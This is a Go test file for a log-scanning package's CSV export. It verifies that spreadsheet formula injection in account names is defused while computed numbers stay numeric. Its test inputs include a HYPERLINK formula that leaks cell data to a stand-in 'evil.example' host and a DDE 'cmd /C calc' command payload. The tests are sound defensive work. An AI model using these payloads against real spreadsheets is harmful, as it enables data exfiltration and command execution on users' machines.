package logscan

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"testing"
	"time"
)

func TestCSVText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"acct-7", "acct-7"},
		{"", ""},
		{"=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"a=1", "a=1"},
	}
	for _, tt := range tests {
		if got := csvText(tt.in); got != tt.want {
			t.Errorf("csvText(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestCSVFormulaInjection writes the CSVs of a report whose account names
// (taken from a log) are spreadsheet formulas: the text cells are defused,
// the numbers we computed, negative ones included, are left as numbers.
func TestCSVFormulaInjection(t *testing.T) {
	when := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	rep := &Report{
		Accounts: []AccountReport{
			{Account: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Requests: 3, First: when, Last: when, Verdict: Verdict{Risk: 0.9, Action: "suspend"}, Cluster: 1,
				Indicators: []Indicator{{Name: IndTiming, Value: -0.25}}},
			{Account: "@SUM(1+1)*cmd|' /C calc'!A0", Requests: 2, First: when, Last: when, Verdict: Verdict{Action: "none"}, Cluster: 1},
			{Account: "plain-user", Requests: 1, First: when, Last: when, Verdict: Verdict{Action: "none"}},
		},
		Clusters: []ClusterReport{{ID: 1, Accounts: []string{"-1+1", "@x"}, Links: []string{"+x–@y: content"}, Requests: 5, Verdict: Verdict{Score: -2.5, Action: "suspend"}}},
	}
	dir := t.TempDir()
	if err := WriteOutputs(rep, dir); err != nil {
		t.Fatal(err)
	}
	accounts := readCSV(t, filepath.Join(dir, "accounts.csv"))
	col := map[string]int{}
	for i, h := range accounts[0] {
		col[h] = i
	}
	for i, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'@SUM(1+1)*cmd|' /C calc'!A0", "plain-user"} {
		if got := accounts[i+1][col["account"]]; got != want {
			t.Errorf("account cell %q, want %q", got, want)
		}
	}
	if got := accounts[1][col[IndTiming]]; got != "-0.25" {
		t.Errorf("a negative number we wrote became %q", got)
	}
	if got := accounts[1][col["requests"]]; got != "3" {
		t.Errorf("requests cell %q", got)
	}
	clusters := readCSV(t, filepath.Join(dir, "clusters.csv"))
	ccol := map[string]int{}
	for i, h := range clusters[0] {
		ccol[h] = i
	}
	if got := clusters[1][ccol["accounts"]]; got != "'-1+1 @x" {
		t.Errorf("cluster accounts cell %q", got)
	}
	if got := clusters[1][ccol["links"]]; got != "'+x–@y: content" {
		t.Errorf("cluster links cell %q", got)
	}
	if got := clusters[1][ccol["score"]]; got != "-2.5" {
		t.Errorf("cluster score cell %q: a negative number we wrote must stay a number", got)
	}
}

func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}
